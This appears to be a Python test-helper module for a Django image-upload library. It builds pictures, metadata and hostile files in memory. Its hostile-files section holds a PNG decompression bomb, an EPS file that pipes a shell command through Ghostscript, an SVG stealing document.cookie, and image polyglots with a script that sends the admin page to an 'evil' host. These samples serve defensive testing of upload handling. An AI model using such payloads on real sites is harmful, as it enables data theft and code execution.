"""Pictures and hostile files made in memory, byte by byte or with Pillow.

Nothing here is a fixture file: each builder says what it makes and how, so a
reader can see exactly what a test feeds the library.
"""

import struct
import zlib
from io import BytesIO

from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import ExifTags
from PIL import Image as PILImage

RED, GREEN, BLUE = (220, 30, 30), (30, 200, 60), (30, 60, 220)
# Where a photo taken on a phone says it was: a quay in Portsmouth.
GPS_LATITUDE = (50.0, 47.0, 5.0)
XMP_PACKET = (
    b'<?xpacket begin="" id="W5M0MpCehiHzreSzNTczkc9d"?>'
    b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF '
    b'xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">'
    b'<rdf:Description xmlns:dc="http://purl.org/dc/elements/1.1/" '
    b'xmlns:photoshop="http://ns.adobe.com/photoshop/1.0/" '
    b'photoshop:Credit="XMP Agency">'
    b'<dc:description><rdf:Alt><rdf:li xml:lang="x-default">'
    b"Ships at anchor &amp; a tug</rdf:li></rdf:Alt></dc:description>"
    b"</rdf:Description></rdf:RDF></x:xmpmeta>"
    b'<?xpacket end="w"?>'
)


def upload(data, name="photo.jpg", content_type="image/jpeg"):
    return SimpleUploadedFile(name, data, content_type)


def picture(size=(640, 360), colour=BLUE, *, mode="RGB"):
    return PILImage.new(mode, size, colour)


def two_tone(size=(600, 400), top=RED, bottom=BLUE):
    """A picture whose top half is `top` and bottom half `bottom`."""
    image = PILImage.new("RGB", size, bottom)
    image.paste(top, (0, 0, size[0], size[1] // 2))
    return image


def encoded(image, image_format="JPEG", **options):
    buffer = BytesIO()
    image.save(buffer, image_format, **options)
    return buffer.getvalue()


def gps_exif(**tags):
    """EXIF with a camera, a GPS position, an owner and any `tags` (id: value)."""
    exif = PILImage.Exif()
    exif[ExifTags.Base.Make] = "PhoneCo"
    exif[ExifTags.Base.Model] = "Pocket 12"
    exif[ExifTags.Base.BodySerialNumber] = "SN-0042-7781"
    for tag, value in tags.items():
        exif[ExifTags.Base[tag]] = value
    gps = exif.get_ifd(ExifTags.IFD.GPSInfo)
    gps[ExifTags.GPS.GPSLatitudeRef] = "N"
    gps[ExifTags.GPS.GPSLatitude] = GPS_LATITUDE
    gps[ExifTags.GPS.GPSLongitudeRef] = "W"
    gps[ExifTags.GPS.GPSLongitude] = (1.0, 6.0, 21.0)
    return exif


def photo_with_everything(size=(1600, 1200)):
    """A JPEG carrying GPS EXIF, XMP, a comment and an sRGB colour profile."""
    return encoded(
        two_tone(size),
        exif=gps_exif(Artist="Jo Snapper"),
        xmp=XMP_PACKET,
        comment=b"shot from the harbour master's office",
        icc_profile=SRGB_PROFILE,
        quality=92,
    )


def with_orientation(image, orientation):
    exif = PILImage.Exif()
    exif[ExifTags.Base.Orientation] = orientation
    return encoded(image, exif=exif)


def iptc_jpeg(image, **datasets):
    """A JPEG with an IPTC block, as an agency's software writes it.

    Pillow cannot write IPTC, so the APP13 segment is built by hand: the
    "Photoshop 3.0" signature, one 8BIM resource (0x0404, IPTC-NAA) holding
    record-2 datasets, each 0x1C, record, dataset, length, bytes.
    """
    numbers = {"byline": 80, "credit": 110, "copyright": 116, "caption": 120}
    iptc = b"".join(
        struct.pack(">BBBH", 0x1C, 2, numbers[key], len(value.encode()))
        + value.encode()
        for key, value in datasets.items()
    )
    if len(iptc) % 2:
        iptc += b"\x00"
    resource = b"8BIM" + struct.pack(">H", 0x0404) + b"\x00\x00"
    resource += struct.pack(">I", len(iptc)) + iptc
    payload = b"Photoshop 3.0\x00" + resource
    segment = b"\xff\xed" + struct.pack(">H", len(payload) + 2) + payload
    jpeg = encoded(image)
    return jpeg[:2] + segment + jpeg[2:]


# ------------------------------------------------------------ colour profiles


def _icc_xyz(x, y, z):
    return b"XYZ \x00\x00\x00\x00" + b"".join(
        struct.pack(">i", round(v * 65536)) for v in (x, y, z)
    )


def _icc_gamma(gamma):
    return b"curv\x00\x00\x00\x00" + struct.pack(">IH", 1, round(gamma * 256)) + b"\0\0"


def rgb_icc_profile(red, green, blue, *, gamma=2.2):
    """A minimal ICC v2 RGB display profile with the given colorants (D50 XYZ)."""
    tags = [
        (b"wtpt", _icc_xyz(0.9642, 1.0, 0.8249)),
        (b"rXYZ", _icc_xyz(*red)),
        (b"gXYZ", _icc_xyz(*green)),
        (b"bXYZ", _icc_xyz(*blue)),
        (b"rTRC", _icc_gamma(gamma)),
        (b"gTRC", _icc_gamma(gamma)),
        (b"bTRC", _icc_gamma(gamma)),
    ]
    offset = 128 + 4 + 12 * len(tags)
    table, data = b"", b""
    for signature, body in tags:
        table += signature + struct.pack(">II", offset + len(data), len(body))
        data += body + b"\x00" * (-len(body) % 4)
    header = bytearray(128)
    header[8:12] = b"\x02\x10\x00\x00"
    header[12:16], header[16:20], header[20:24] = b"mntr", b"RGB ", b"XYZ "
    header[36:40] = b"acsp"
    header[68:80] = _icc_xyz(0.9642, 1.0, 0.8249)[8:]
    profile = bytes(header) + struct.pack(">I", len(tags)) + table + data
    return struct.pack(">I", len(profile)) + profile[4:]


# sRGB's colorants, adapted to D50.
SRGB_RED, SRGB_GREEN, SRGB_BLUE = (
    (0.4361, 0.2225, 0.0139),
    (0.3851, 0.7169, 0.0971),
    (0.1431, 0.0606, 0.7141),
)
SRGB_PROFILE = rgb_icc_profile(SRGB_RED, SRGB_GREEN, SRGB_BLUE)
# A profile whose "red" channel is sRGB's green, and "green" sRGB's red: a
# picture that stores (255, 0, 0) under it shows green.
SWAPPED_PROFILE = rgb_icc_profile(SRGB_GREEN, SRGB_RED, SRGB_BLUE)


# ------------------------------------------------------------ hostile files


def png_chunk(kind, data):
    return (
        struct.pack(">I", len(data))
        + kind
        + data
        + struct.pack(">I", zlib.crc32(kind + data))
    )


def png_bomb(width, height):
    """A valid one-bit PNG of `width` × `height` black pixels: kilobytes on disk.

    Built chunk by chunk (Pillow would need the whole picture in memory first).
    """
    row = b"\x00" + b"\x00" * ((width + 7) // 8)
    compressor = zlib.compressobj(9)
    pixels = b"".join(compressor.compress(row) for _ in range(height))
    pixels += compressor.flush()
    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + png_chunk(b"IHDR", header)
        + png_chunk(b"IDAT", pixels)
        + png_chunk(b"IEND", b"")
    )


def eps():
    """An Encapsulated PostScript file whose program would run in Ghostscript."""
    return (
        b"%!PS-Adobe-3.0 EPSF-3.0\n"
        b"%%BoundingBox: 0 0 100 100\n"
        b"%%EndComments\n"
        b"(%pipe%touch /tmp/byline-ghostscript-ran) (w) file\n"
        b"newpath 0 0 moveto 100 100 lineto stroke\n"
        b"showpage\n%%EOF\n"
    )


def svg_with_script():
    return (
        b'<?xml version="1.0"?>\n'
        b'<svg xmlns="http://www.w3.org/2000/svg" width="100" height="100">'
        b"<script>alert(document.cookie)</script>"
        b'<rect width="100" height="100" fill="red"/></svg>'
    )


def html_page():
    return (
        b"<!DOCTYPE html><html><body><script>"
        b"fetch('/admin/').then(r => r.text()).then(t => navigator.sendBeacon('//evil', t))"
        b"</script></body></html>"
    )


def jpeg_with_html_appended():
    return encoded(picture()) + html_page()


def jpeg_with_html_in_a_comment():
    """The classic polyglot: a valid JPEG whose comment segment is a web page."""
    return encoded(picture(), comment=html_page())


def png_with_script_in_a_text_chunk():
    png = encoded(picture(), "PNG")
    end = png.index(b"IEND") - 4
    chunk = png_chunk(b"tEXt", b"Comment\x00<script>alert(1)</script>")
    return png[:end] + chunk + png[end:]


def gif_with_html_after_its_end():
    return encoded(picture().convert("P"), "GIF") + html_page()


def camera_jpeg_with_preview():
    """A JPEG with a second, smaller picture after it (MPF), as many cameras write."""
    buffer = BytesIO()
    two_tone((640, 480)).save(
        buffer, "MPO", save_all=True, append_images=[picture((160, 120))]
    )
    return buffer.getvalue()


def progressive_jpeg_with_restart_markers():
    return encoded(two_tone((640, 480)), progressive=True, restart_marker_rows=1)


def phone_jpeg_with_a_trailer():
    """A JPEG with bytes after its end that are not markup, as some phones add."""
    return encoded(two_tone((640, 480))) + b"SEFH\x00\x00Image_UTC_Data1718000000000"


def truncated_jpeg():
    whole = encoded(two_tone((800, 600)), quality=90)
    return whole[: len(whole) * 2 // 3]


def corrupt_png():
    """A PNG whose compressed pixels were overwritten halfway through."""
    data = bytearray(encoded(two_tone((300, 200)), "PNG"))
    start = data.index(b"IDAT") + 20
    data[start : start + 40] = bytes(range(40, 80))
    return bytes(data)


def jpeg_with_broken_header():
    """A JPEG whose frame header says the picture is 0 × 0 pixels."""
    data = bytearray(encoded(two_tone((300, 200))))
    frame = data.index(b"\xff\xc0")
    data[frame + 5 : frame + 9] = b"\x00\x00\x00\x00"
    return bytes(data)


def truncated_webp():
    whole = encoded(two_tone((300, 200)), "WEBP")
    return whole[: len(whole) // 2]


def tiff():
    return encoded(picture(), "TIFF")


def animated_gif(frames):
    """A GIF of `frames` different frames (identical ones would be merged)."""
    images = [PILImage.new("P", (64, 64), index % 256) for index in range(frames)]
    for image in images:
        image.putpalette([value % 256 for value in range(768)])
    buffer = BytesIO()
    images[0].save(
        buffer, "GIF", save_all=True, append_images=images[1:], duration=20, loop=0
    )
    return buffer.getvalue()
